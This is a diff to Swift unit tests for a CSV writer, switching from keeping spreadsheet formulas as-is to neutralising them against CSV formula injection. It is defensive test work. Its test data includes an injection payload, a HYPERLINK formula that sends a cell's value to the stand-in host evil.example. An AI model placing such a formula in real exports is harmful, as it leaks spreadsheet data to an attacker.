@@ -17,11 +17,19 @@ import Testing
         #expect(CSVWriter.field(text) == expected)
     }
 
-    @Test(arguments: ["=1+1", "+31 20 555", "-5", "@SUM(A1)", "=HYPERLINK(\"x\")"])
-    func formulaCharactersAreWrittenAsDataNotNeutralised(text: String) {
-        // Exports must read back unchanged, so a leading = + - @ is kept; only CSV syntax is quoted.
-        let quoted = text.contains("\"")
-        #expect(CSVWriter.field(text) == (quoted ? "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : text))
+    @Test(arguments: [
+        ("=1+1", "'=1+1"), ("+31 20 555", "'+31 20 555"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
+        ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""),
+        ("\tx", "'\tx"), ("\rx", "\"'\rx\""), ("'=x", "''=x"), ("'plain", "'plain"), ("a=b", "a=b"),
+    ])
+    func formulaCellsAreNeutralised(text: String, expected: String) {
+        // OWASP's rule: a spreadsheet must show these as text, never evaluate them.
+        #expect(CSVWriter.field(text) == expected)
+    }
+
+    @Test(arguments: ["=1+1", "-5", "'=x", "''@y", "'plain", "'", "", "plain", "\t", "a=b", "==", "'''-"])
+    func neutralisationRoundTrips(text: String) {
+        #expect(CSVFormula.unescape(CSVFormula.escape(text)) == text)
     }
 
     @Test func aDocumentCountsRecordsAndUsesItsLineEnding() {
